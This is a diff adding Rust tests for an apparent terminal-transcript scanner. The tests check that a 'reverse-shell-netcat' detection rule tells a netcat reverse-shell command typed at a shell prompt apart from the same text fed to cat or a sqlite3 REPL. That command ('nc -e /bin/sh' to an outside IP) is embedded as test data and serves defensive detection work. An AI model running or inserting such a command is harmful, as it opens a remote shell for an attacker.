@@ -546,3 +546,115 @@ fn sarif_validates_against_the_official_schema() {
     );
     assert!(!check(&bad).status.success());
 }
+
+/// A store of `script` transcripts (name -> terminal body).
+fn transcript_store(bodies: &[(&str, &str)]) -> (tempfile::TempDir, PathBuf) {
+    let dir = tempfile::tempdir().unwrap();
+    let logs = dir.path().join("logs");
+    std::fs::create_dir(&logs).unwrap();
+    for (sid, body) in bodies {
+        let file = format!(
+            "Script started on 2024-05-14 09:31:07+00:00 [COMMAND=\"cat /x/ipcTempFile.log\" \
+             <not executed on terminal>]\n{body}\nScript done on 2024-05-14 09:31:40+00:00 \
+             [COMMAND_EXIT_CODE=\"0\"]\n"
+        );
+        std::fs::write(logs.join(format!("{sid}.log")), file).unwrap();
+    }
+    let store = dir.path().join("store");
+    let o = run(&[
+        "ingest",
+        logs.to_str().unwrap(),
+        "--store",
+        store.to_str().unwrap(),
+        "-q",
+    ]);
+    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
+    (dir, store)
+}
+
+#[test]
+fn program_input_is_not_a_shell_command() {
+    const NC: &str = "nc -e /bin/sh 1.2.3.4 4444";
+    // Typed into `cat > notes.txt` (the terminal echoes it: output), into a REPL with a line
+    // editor of its own (sqlite3's readline marks it as input at a prompt not the shell's),
+    // and, for comparison, at the shell's prompt.
+    let cat = format!(
+        "\x1b[?2004hroot@vm:/# cat > notes.txt\r\r\n\x1b[?2004l\r{NC}\r\r\n\
+         \x1b[?2004hroot@vm:/# wc -l notes.txt\r\r\n\x1b[?2004l\r1 notes.txt\r\r\n"
+    );
+    let dash = format!(
+        "# cat > notes.txt\r\r\n{NC}\r\r\n# wc -l notes.txt\r\r\n1 notes.txt\r\r\n# exit\r\r\n"
+    );
+    let repl = format!(
+        "\x1b[?2004hroot@vm:/# sqlite3\r\r\n\x1b[?2004l\rSQLite version 3.40.1\r\r\n\
+         \x1b[?2004hsqlite> {NC}\r\r\n\x1b[?2004l\rParse error: near \"nc\": syntax error\r\r\n\
+         \x1b[?2004hsqlite> .quit\r\r\n\x1b[?2004l\r\x1b[?2004hroot@vm:/# exit\r\r\n\
+         \x1b[?2004l\rexit\r\r\n"
+    );
+    let shell = format!("\x1b[?2004hroot@vm:/# {NC}\r\r\n\x1b[?2004l\r\x1b[?2004hroot@vm:/# exit\r\r\n\x1b[?2004l\rexit\r\r\n");
+    let (sid_cat, sid_dash, sid_repl, sid_shell) = (
+        "ecs-execute-command-aaaaaaaaaaaaaaaaaaaaaaaaaa",
+        "ecs-execute-command-bbbbbbbbbbbbbbbbbbbbbbbbbb",
+        "ecs-execute-command-cccccccccccccccccccccccccc",
+        "ecs-execute-command-dddddddddddddddddddddddddd",
+    );
+    let (_dir, store) = transcript_store(&[(sid_cat, &cat), (sid_dash, &dash), (sid_repl, &repl)]);
+    let (rows, o) = findings(
+        &store,
+        &[
+            "--rule",
+            "reverse-shell-netcat",
+            "--min-severity",
+            "info",
+            "--fail-on",
+            "high",
+        ],
+    );
+    // What only a program read does not fail a run that fails on high findings.
+    assert_eq!(o.status.code(), Some(0), "{rows:?}");
+    let of = |sid: &str| rows.iter().find(|r| r["session_id"] == sid);
+    assert!(of(sid_cat).is_none(), "{rows:?}");
+    assert!(of(sid_dash).is_none(), "{rows:?}");
+    let repl_finding = of(sid_repl).unwrap_or_else(|| panic!("{rows:?}"));
+    assert_eq!(repl_finding["severity"], "low", "{repl_finding}");
+    assert!(
+        repl_finding["detail"]
+            .as_str()
+            .is_some_and(|d| d.contains("program input")),
+        "{repl_finding}"
+    );
+    // The same line at the shell's prompt is the rule's finding.
+    let (_dir2, typed_at_shell) = transcript_store(&[(sid_shell, &shell)]);
+    let (rows, o) = findings(
+        &typed_at_shell,
+        &["--rule", "reverse-shell-netcat", "--fail-on", "high"],
+    );
+    assert_eq!(o.status.code(), Some(1), "{rows:?}");
+    assert_eq!(rows.len(), 1, "{rows:?}");
+    assert_eq!(rows[0]["severity"], "critical");
+
+    // The `commands` listing flags it.
+    let o = run(&[
+        "commands",
+        "--store",
+        store.to_str().unwrap(),
+        "--session",
+        sid_repl,
+        "--format",
+        "json",
+    ]);
+    let cmds: Value =
+        serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", err(&o)));
+    let typed = cmds
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|c| c["command"] == NC)
+        .unwrap_or_else(|| panic!("{cmds}"));
+    assert!(
+        typed["flags"]
+            .as_str()
+            .is_some_and(|f| f.contains("program-input")),
+        "{typed}"
+    );
+}
